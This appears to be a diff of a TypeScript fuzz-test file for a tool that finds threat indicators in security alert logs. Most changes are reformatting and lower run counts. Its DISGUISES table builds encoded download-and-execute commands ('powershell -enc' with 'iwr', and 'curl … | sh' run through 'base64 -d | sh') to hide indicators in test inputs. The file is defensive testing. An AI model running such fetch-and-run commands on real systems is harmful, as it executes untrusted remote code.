@@ -94,11 +94,14 @@ const DISGUISES: Readonly<Record<string, (text: string) => string>> = {
   "in smart quotes": (text) => `\u201c${text}\u201d`,
   "in JSON": (text) => JSON.stringify({ a: { b: text } }),
   "&amp;": (text) => `?a=1&amp;b=${text}&amp;c=2`,
-  "in base64": (text) => `powershell -enc ${Buffer.from(`iwr http://${text}/x -o y; ${text} `, "utf16le").toString("base64")}`,
-  "in base64 of a shell": (text) => `echo ${Buffer.from(`curl ${text} | sh # padding`).toString("base64")} | base64 -d | sh`,
+  "in base64": (text) =>
+    `powershell -enc ${Buffer.from(`iwr http://${text}/x -o y; ${text} `, "utf16le").toString("base64")}`,
+  "in base64 of a shell": (text) =>
+    `echo ${Buffer.from(`curl ${text} | sh # padding`).toString("base64")} | base64 -d | sh`,
   colons: (text) => text.replace(/(..)(?=.)/g, "$1:"),
   blanks: (text) => text.replace(/(..)(?=.)/g, "$1 "),
-  "hive in full": (text) => text.replace(/^hklm/, "HKEY_LOCAL_MACHINE").replace(/^hkcu/, "HKEY_USERS\\S-1-5-21-1-2-3-1001"),
+  "hive in full": (text) =>
+    text.replace(/^hklm/, "HKEY_LOCAL_MACHINE").replace(/^hkcu/, "HKEY_USERS\\S-1-5-21-1-2-3-1001"),
   "folder for its variable": (text) =>
     text
       .replace("%temp%", "C:/Users/joe/AppData/Local/Temp")
@@ -113,14 +116,31 @@ const DISGUISES: Readonly<Record<string, (text: string) => string>> = {
 const PLACES: readonly ((text: string) => JsonObject)[] = [
   (text) => ({ full_log: `Nov 21 10:00:00 host app[12]: something about ${text} here` }),
   (text) => ({ full_log: text }),
-  (text) => ({ data: { win: { eventdata: { commandLine: `cmd /c x ${text}`, image: text, hashes: text, queryName: text } } } }),
-  (text) => ({ data: { win: { eventdata: { targetObject: text, targetFilename: text, destinationIp: text, queryResults: `::ffff:${text};` } } } }),
+  (text) => ({
+    data: { win: { eventdata: { commandLine: `cmd /c x ${text}`, image: text, hashes: text, queryName: text } } },
+  }),
+  (text) => ({
+    data: {
+      win: {
+        eventdata: { targetObject: text, targetFilename: text, destinationIp: text, queryResults: `::ffff:${text};` },
+      },
+    },
+  }),
   (text) => ({ syscheck: { path: text, md5_after: text, sha256_after: text, sha1_after: text } }),
   (text) => ({ data: { srcip: text, dstip: text, url: text, srcuser: text, hostname: text } }),
-  (text) => ({ data: { tls: { fingerprint: text, sni: text }, http: { hostname: text, url: "/x", http_user_agent: text } } }),
-  (text) => ({ data: { dns: { rrname: text, answers: [{ rdata: text }] }, asn: text, geoip: { asn: Number(text) || text } } }),
+  (text) => ({
+    data: { tls: { fingerprint: text, sni: text }, http: { hostname: text, url: "/x", http_user_agent: text } },
+  }),
+  (text) => ({
+    data: { dns: { rrname: text, answers: [{ rdata: text }] }, asn: text, geoip: { asn: Number(text) || text } },
+  }),
   (text) => ({ data: { anything: [{ deep: [text] }], "odd.key": { mutex: text } } }),
-  (text) => ({ data: { email: { from: text, to: [`Joe <${text}>`], subject: text }, aws: { userAgent: text, sourceIPAddress: text } } }),
+  (text) => ({
+    data: {
+      email: { from: text, to: [`Joe <${text}>`], subject: text },
+      aws: { userAgent: text, sourceIPAddress: text },
+    },
+  }),
 ];
 
 const spelled = fc.tuple(generatedValue, fc.constantFrom(...Object.keys(DISGUISES)), fc.constantFrom(...PLACES));
@@ -140,17 +160,20 @@ test("whatever extraction and lookup would find is nominated", async () => {
   const found = new Map<string, number>();
   fc.assert(
     fc.property(spelled, noise, noise, ([indicator, disguise, place], before, after) => {
-      const plain = indicator.pattern === "cidr" ? indicator.value.slice(0, indicator.value.indexOf("/")) : indicator.value;
+      const plain =
+        indicator.pattern === "cidr" ? indicator.value.slice(0, indicator.value.indexOf("/")) : indicator.value;
       const text = (DISGUISES[disguise] as (text: string) => string)(plain);
       const event = { ...place(text), location: "x", note: before, other: `${after} ${text}` };
-      const covers = extract(event).observables.flatMap(covering).filter((one) => same(one, indicator));
+      const covers = extract(event)
+        .observables.flatMap(covering)
+        .filter((one) => same(one, indicator));
       runs++;
       if (covers.length === 0 && !isInside(indicator, extract(event).observables)) return;
       matches++;
       found.set(disguise, (found.get(disguise) ?? 0) + 1);
       assert.equal(nominatorOf([indicator]).nominates(event), true, `${indicator.type} ${indicator.value} as ${text}`);
     }),
-    { numRuns: fuzzRuns(6_000) },
+    { numRuns: fuzzRuns(4_000) },
   );
   assert.ok(matches / runs >= 0.3, `${matches} of ${runs} runs were true matches`);
 });
@@ -167,7 +190,7 @@ test("everything extracted from strings of any kind is nominated", async () => {
         assert.equal(createNominator([gate.build()]).nominates(event), true, `${indicator.type} ${indicator.value}`);
       }
     }),
-    { numRuns: fuzzRuns(2_000) },
+    { numRuns: fuzzRuns(1_500) },
   );
 });
 
@@ -176,7 +199,9 @@ test("every observable of the real alerts is nominated, and few alerts are nomin
   if (shared === undefined) return;
   const extract = await extractAll();
   const lines = readFileSync(join(shared, "data/wazuh/alerts.ndjson"), "utf8").trim().split("\n");
-  const nothing = nominatorOf([{ type: "md5", pattern: "exact", value: "0123456789abcdef0123456789abcdef" as GeneratedValue["value"] }]);
+  const nothing = nominatorOf([
+    { type: "md5", pattern: "exact", value: "0123456789abcdef0123456789abcdef" as GeneratedValue["value"] },
+  ]);
   const known = new Map<string, ReturnType<typeof nominatorOf>>();
   let falsely = 0;
   for (const line of lines) {
@@ -195,7 +220,25 @@ test("every observable of the real alerts is nominated, and few alerts are nomin
 
 test("hostile strings cost linear time and never throw", () => {
   const nominator = nominatorOf([{ type: "domain", pattern: "exact", value: "a.b" as GeneratedValue["value"] }]);
-  const units = ["1-", "a:", "::", "%25", "-e ", "64", "e64", "ф", ".", "-.", "[", "a.", "1.1-", "\\u", "\ud800", "aa:", "_"];
+  const units = [
+    "1-",
+    "a:",
+    "::",
+    "%25",
+    "-e ",
+    "64",
+    "e64",
+    "ф",
+    ".",
+    "-.",
+    "[",
+    "a.",
+    "1.1-",
+    "\\u",
+    "\ud800",
+    "aa:",
+    "_",
+  ];
   for (const unit of units) nominator.nominates({ text: unit.repeat(1_000_000 / unit.length) });
   let deep: JsonObject = { text: "a.b" };
   for (let i = 0; i < 100_000; i++) deep = { deep };
@@ -204,7 +247,9 @@ test("hostile strings cost linear time and never throw", () => {
 });
 
 test("members of the manager are not looked at", () => {
-  const nominator = nominatorOf([{ type: "domain", pattern: "exact", value: "evil.example" as GeneratedValue["value"] }]);
+  const nominator = nominatorOf([
+    { type: "domain", pattern: "exact", value: "evil.example" as GeneratedValue["value"] },
+  ]);
   for (const member of MANAGER_MEMBERS) assert.equal(nominator.nominates({ [member]: { a: "evil.example" } }), false);
 });
 
@@ -219,5 +264,7 @@ function isInside(indicator: GeneratedValue, observables: readonly Observable[])
   const size = 2 ** (32 - Number(indicator.value.slice(slash + 1)));
   const number = (text: string) => text.split(".").reduce((sum, octet) => sum * 256 + Number(octet), 0);
   const base = number(indicator.value.slice(0, slash));
-  return observables.some(({ type, value }) => type === "ip" && !value.includes(":") && Math.floor(number(value) / size) * size === base);
+  return observables.some(
+    ({ type, value }) => type === "ip" && !value.includes(":") && Math.floor(number(value) / size) * size === base,
+  );
 }
